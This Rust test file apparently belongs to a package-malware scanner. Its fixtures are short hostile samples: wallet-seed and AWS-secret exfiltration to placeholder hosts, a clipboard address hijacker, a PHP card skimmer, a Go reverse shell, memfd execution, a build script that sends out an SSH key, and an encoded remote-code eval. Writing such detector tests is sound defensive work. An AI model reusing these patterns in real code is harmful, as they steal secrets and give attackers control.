//! What stands together, in one file or in several.

mod common;

use common::{found, run};
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};
use packguard_sources::Sources;

fn several(files: &[(&str, &str)]) -> Analysis {
    let mut package = PackageBuilder::new("generic", "sample");
    for (path, code) in files {
        package = package.file(path, code);
    }
    Sources::analyze(&package.build()).unwrap_or_default()
}

fn grave(analysis: &Analysis, rule: &str) -> bool {
    found(analysis)
        .iter()
        .any(|(have, severity)| *have == rule && *severity >= Severity::High)
}

fn quiet(analysis: &Analysis) -> bool {
    found(analysis)
        .iter()
        .all(|(_, severity)| *severity <= Severity::Low)
}

#[test]
fn keys_of_wallets() {
    for (path, code) in [
        (
            "lib/w.rb",
            "def initialize(mnemonic)\n  Net::HTTP.get(URI(\"https://w.example/c?#{[mnemonic].pack(\"m0\")}\"))\nend\n",
        ),
        (
            "Wallet.cs",
            "class Wallet { public Wallet(string mnemonic) { new HttpClient().PostAsync(\"https://w.example/\", new StringContent(Uri.EscapeDataString(mnemonic))); } }",
        ),
        (
            "src/lib.rs",
            "fn f() { let k = Regex::new(\"[1-9A-HJ-NP-Za-km-z]{87,88}\"); let t = std::fs::read_to_string(p); ureq::post(\"https://k.example/\").send_string(t); }",
        ),
    ] {
        assert!(grave(&run(path, code), "source-wallet-theft"), "{path}");
    }
    // Keys of accounts sign; they are not sent.
    for (path, code) in [
        (
            "src/lib.rs",
            "fn token(private_key: &str) { let j = sign(private_key); reqwest::Client::new().post(\"https://auth.example/token\").body(j).send(); }",
        ),
        (
            "lib/w.rb",
            "def seed(mnemonic)\n  OpenSSL::PKCS5.pbkdf2_hmac(mnemonic, 'mnemonic', 2048, 64, 'SHA512')\nend\n",
        ),
    ] {
        assert!(quiet(&run(path, code)), "{path}");
    }
}

#[test]
fn clipboards() {
    let code = |shape: &str| {
        format!(
            "package c\nimport \"github.com/atotto/clipboard\"\nvar re = regexp.MustCompile(`{shape}`)\nfunc init() {{ go watch() }}\nfunc watch() {{ t, _ := clipboard.ReadAll(); if re.MatchString(t) {{ clipboard.WriteAll(to) }} }}\n"
        )
    };
    let hostile = run("w.go", code("^0x[0-9a-fA-F]{40}$"));
    assert!(grave(&hostile, "source-clipboard-hijack"));
    let honest = run("w.go", code("^https?://some.example/path"));
    assert!(!grave(&honest, "source-clipboard-hijack"));
}

#[test]
fn pictures_that_grow() {
    let hostile = "<?php class C { function v() { file_put_contents(__DIR__ . '/a/logo.jpg', base64_encode(json_encode($_POST)) . \"\\n\", FILE_APPEND); } }";
    assert!(grave(&run("C.php", hostile), "source-skimmer"));
    let honest = "<?php function save() { file_put_contents(__DIR__ . '/a/photo.jpg', base64_decode($_POST['image'])); file_put_contents('a.log', $_POST['x'], FILE_APPEND); }";
    assert!(!grave(&run("C.php", honest), "source-skimmer"));
}

#[test]
fn tokens_and_relays() {
    for (path, code) in [
        (
            "P.php",
            "<?php class P { function __construct() { $s = getenv('AWS_SECRET_ACCESS_KEY'); @file_get_contents('https://h.example/' . $s); } }",
        ),
        (
            "t.rb",
            "class A\n  HOST = 'https://relay.example'\n  def self.run(params)\n    Net::HTTP.post_form(URI.parse(\"#{HOST}/bot#{params[:token]}/sendMessage\"), {})\n  end\nend\n",
        ),
        (
            "e.go",
            "package e\nfunc After() { b, _ := json.Marshal(os.Environ()); http.Post(\"https://e.example/e\", \"application/json\", bytes.NewReader(b)) }\n",
        ),
    ] {
        assert!(grave(&run(path, code), "source-exfiltration"), "{path}");
    }
    let honest = "<?php class P { function send($s3) { $s = getenv('AWS_SECRET_ACCESS_KEY'); file_get_contents('https://s3.amazonaws.com/' . $s); } }";
    assert!(quiet(&run("P.php", honest)));
}

#[test]
fn connections_and_memory() {
    let shell = "package r\nfunc init() { c, err := net.Dial(\"tcp\", where()); cmd := exec.Command(s[0]); cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c; cmd.Run() }\n";
    assert!(grave(&run("r.go", shell), "source-reverse-shell"));
    let memory = "package r\nfunc init() { fd, _ := unix.MemfdCreate(\"\", 0); exec.Command(fmt.Sprintf(\"/proc/self/fd/%d\", fd)).Start() }\n";
    assert!(grave(&run("r.go", memory), "source-injection"));
    let honest = "package r\nfunc Run() { cmd := exec.Command(\"git\", \"status\"); cmd.Stdin, cmd.Stdout = os.Stdin, os.Stdout; cmd.Run() }\n";
    assert!(quiet(&run("r.go", honest)));
}

#[test]
fn files_are_looked_at_together() {
    let hostile = several(&[
        (
            "build.rs",
            "include!(\"src/p.rs\");\nfn main() { let mut out = String::new(); for p in paths() { if let Ok(s) = std::fs::read_to_string(&p) { out.push_str(&s); } }\n let _ = minreq::post(\"https://y.example/c\").with_body(out).send(); }\n",
        ),
        (
            "src/p.rs",
            "fn paths() -> Vec<String> { vec![\".ssh/id_ed25519\".to_string()] }\n",
        ),
    ]);
    assert!(grave(&hostile, "source-exfiltration"));
    let honest = several(&[
        (
            "a.go",
            "package a\nfunc send(s string) { http.Post(\"https://y.example/c\", \"text/plain\", strings.NewReader(s)) }\n",
        ),
        ("b.go", "package a\nfunc Hello() { send(\"hello\") }\n"),
    ]);
    assert!(quiet(&honest));
}

#[test]
fn templates_are_no_code() {
    let page =
        "<% items.each do |item| %>it's <b>\"<%= h item %>\n<% end %>don't \" ' ` \n".repeat(80);
    let code = format!("TEMPLATE = ERB.new(<<-'HTML'.gsub(/^  /, ''))\n{page}\nHTML\n");
    let analysis = run("lib/show.rb", code);
    assert!(analysis.problems().is_empty(), "{:?}", analysis.problems());
    let data = format!("system('ls');\n1;\n__DATA__\n{}\n", "a\\E[".repeat(200));
    let analysis = run("lib/Cap.pm", data);
    assert!(analysis.problems().is_empty(), "{:?}", analysis.problems());
}

#[test]
fn ruby_definitions_without_end() {
    let code = "module F\n  T = \"ZXZhbChVUkkub3BlbigiaHR0cHM6Ly94LmV4YW1wbGUvcyIpLnJlYWQp\"\n  def self.t = T.unpack1(\"m\")\nend\nF.instance_eval(F.t)\n";
    assert!(grave(&run("lib/f.rb", code), "source-decode-execute"));
}
